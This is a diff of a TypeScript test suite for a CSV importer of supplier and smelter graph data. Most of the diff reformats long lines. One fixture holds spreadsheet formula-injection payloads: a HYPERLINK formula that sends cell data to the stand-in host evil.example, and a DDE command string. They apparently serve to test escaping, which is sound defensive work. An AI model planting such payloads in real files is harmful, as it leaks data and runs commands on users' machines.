@@ -74,7 +74,13 @@ describe('reading nodes.csv and relationships.csv', () => {
     });
     expect(read.document).toEqual({
       nodes: [
-        { label: 'Company', id: '@evil', name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', country: 'JP', tags: ["+cmd|' /C calc'!A0", '=2+3'] },
+        {
+          label: 'Company',
+          id: '@evil',
+          name: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+          country: 'JP',
+          tags: ["+cmd|' /C calc'!A0", '=2+3'],
+        },
         // One quote comes off; a quote that is not before a formula character is the text's own.
         { label: 'Company', id: 'quoted', name: "'-x", country: 'JP', tags: ["'t Hooft", "'-y"] },
         { label: 'Company', id: 'plain', name: "'t Hooft Metaal", country: 'JP' },
@@ -99,7 +105,10 @@ describe('bad CSV names the file, the row and the column', () => {
         path: 'nodes',
         message: expect.stringMatching(/^nodes\.csv row 1 column nmae: unknown column; the columns are label, id, name, country, metal, /),
       },
-      { path: 'nodes', message: expect.stringMatching(/^nodes\.csv row 1 column Country: unknown column \(did you mean country\?\); the columns are /) },
+      {
+        path: 'nodes',
+        message: expect.stringMatching(/^nodes\.csv row 1 column Country: unknown column \(did you mean country\?\); the columns are /),
+      },
       { path: 'nodes', message: 'nodes.csv row 1 column label: the column appears twice' },
       { path: 'nodes', message: 'nodes.csv row 1: column 6 has no name' },
     ]);
@@ -112,18 +121,28 @@ describe('bad CSV names the file, the row and the column', () => {
   it('bad share, bad number, bad boolean, bad list', async () => {
     const fields = await problems({
       nodes: csv('label,id,name,country,saqScore,cahra,tags', 'Company,a,A,JP,high,,', 'Country,CD,Congo,,,yes,', 'Company,b,B,JP,,,x||y'),
-      relationships: csv('type,from,to,metal,share', 'SUPPLIES,a,b,tin,0.5', 'SUPPLIES,a,b,gold,1.5', 'SUPPLIES,a,b,cobalt,0', 'SUPPLIES,a,b,mica,"0,3"'),
+      relationships: csv(
+        'type,from,to,metal,share',
+        'SUPPLIES,a,b,tin,0.5',
+        'SUPPLIES,a,b,gold,1.5',
+        'SUPPLIES,a,b,cobalt,0',
+        'SUPPLIES,a,b,mica,"0,3"',
+      ),
     });
     expect(fields).toEqual([
       { path: 'nodes[0].saqScore', message: 'nodes.csv row 2 column saqScore: "high" is not a number (write e.g. 0.25, with a point)' },
       { path: 'nodes[1].cahra', message: 'nodes.csv row 3 column cahra: "yes" is not true or false' },
       {
         path: 'nodes[2].tags',
-        message: 'nodes.csv row 4 column tags: has an empty item: "|" separates items, none may be empty (write "\\|" for a "|" inside an item)',
+        message:
+          'nodes.csv row 4 column tags: has an empty item: "|" separates items, none may be empty (write "\\|" for a "|" inside an item)',
       },
       { path: 'relationships[1].share', message: 'relationships.csv row 3 column share: must be at most 1' },
       { path: 'relationships[2].share', message: 'relationships.csv row 4 column share: must be greater than 0' },
-      { path: 'relationships[3].share', message: 'relationships.csv row 5 column share: "0,3" is not a number (write e.g. 0.25, with a point)' },
+      {
+        path: 'relationships[3].share',
+        message: 'relationships.csv row 5 column share: "0,3" is not a number (write e.g. 0.25, with a point)',
+      },
     ]);
   });
 
@@ -168,11 +187,15 @@ describe('bad CSV names the file, the row and the column', () => {
     expect(await problems({ nodes: csv('label,id,name,country', 'Company,a,"A"x,JP') })).toEqual([
       {
         path: 'nodes[0].name',
-        message: 'nodes.csv row 2 column name (line 2): a closing quote must be followed by a comma or the end of the row (write "" for a quote inside a quoted cell)',
+        message:
+          'nodes.csv row 2 column name (line 2): a closing quote must be followed by a comma or the end of the row (write "" for a quote inside a quoted cell)',
       },
     ]);
     expect(await problems({ nodes: csv('label,id,name,country', 'Company,a,A "the" B,JP') })).toEqual([
-      { path: 'nodes[0].name', message: 'nodes.csv row 2 column name (line 2): a quote inside an unquoted cell: quote the whole cell and double the quote ("")' },
+      {
+        path: 'nodes[0].name',
+        message: 'nodes.csv row 2 column name (line 2): a quote inside an unquoted cell: quote the whole cell and double the quote ("")',
+      },
     ]);
   });
 
@@ -181,7 +204,9 @@ describe('bad CSV names the file, the row and the column', () => {
     expect(await problems({ nodes: csv('label,id,name,country', ...rows) }, 3)).toEqual([
       { path: 'nodes', message: 'nodes.csv has more than 3 rows: split it into several imports' },
     ]);
-    expect((await readGraphCsv({ nodes: csv('label,id,name,country', ...rows.slice(0, 3)) }, { maxRows: 3 })).document.nodes).toHaveLength(3);
+    expect((await readGraphCsv({ nodes: csv('label,id,name,country', ...rows.slice(0, 3)) }, { maxRows: 3 })).document.nodes).toHaveLength(
+      3,
+    );
   });
 
   it('lists at most 50 problems', async () => {
@@ -190,12 +215,18 @@ describe('bad CSV names the file, the row and the column', () => {
   });
 
   it('uses the file names it is given', async () => {
-    expect((await readGraphCsv({ nodes: csv('label,id') }, { fileNames: { nodes: 'suppliers/2026-nodes.csv' } })).document.nodes).toEqual([]);
-    const fields = await readGraphCsv({ nodes: csv('label,id,name,country', 'Company,a,A,jp') }, { fileNames: { nodes: 'suppliers/2026-nodes.csv' } }).catch(
-      (e: ValidationError) => e.fields,
+    expect((await readGraphCsv({ nodes: csv('label,id') }, { fileNames: { nodes: 'suppliers/2026-nodes.csv' } })).document.nodes).toEqual(
+      [],
     );
+    const fields = await readGraphCsv(
+      { nodes: csv('label,id,name,country', 'Company,a,A,jp') },
+      { fileNames: { nodes: 'suppliers/2026-nodes.csv' } },
+    ).catch((e: ValidationError) => e.fields);
     expect(fields).toEqual([
-      { path: 'nodes[0].country', message: 'suppliers/2026-nodes.csv row 2 column country: must be an ISO 3166-1 alpha-2 code in upper case, e.g. "CD"' },
+      {
+        path: 'nodes[0].country',
+        message: 'suppliers/2026-nodes.csv row 2 column country: must be an ISO 3166-1 alpha-2 code in upper case, e.g. "CD"',
+      },
     ]);
   });
 });
@@ -225,7 +256,7 @@ describe('importing into a store: all or nothing', () => {
     expect(await store.counts()).toEqual(counts);
   });
 
-  it('points the store\'s 422 at the CSV row and writes nothing', async () => {
+  it("points the store's 422 at the CSV row and writes nothing", async () => {
     const before = await store.scan();
     const read = await readGraphCsv({
       nodes: csv('label,id,name,country', 'Company,new-1,New One,JP'),
@@ -245,7 +276,9 @@ describe('importing into a store: all or nothing', () => {
   });
 
   it('merges: an empty cell keeps the stored value', async () => {
-    const read = await readGraphCsv({ nodes: csv('label,id,name,country,metal,rmapStatus,aliases', 'Smelter,S-TIN-1,Andes Tin S.A.,PE,tin,,') });
+    const read = await readGraphCsv({
+      nodes: csv('label,id,name,country,metal,rmapStatus,aliases', 'Smelter,S-TIN-1,Andes Tin S.A.,PE,tin,,'),
+    });
     await store.importGraph(read.document);
     expect(await store.getNode('Smelter', 'S-TIN-1')).toEqual({
       label: 'Smelter',
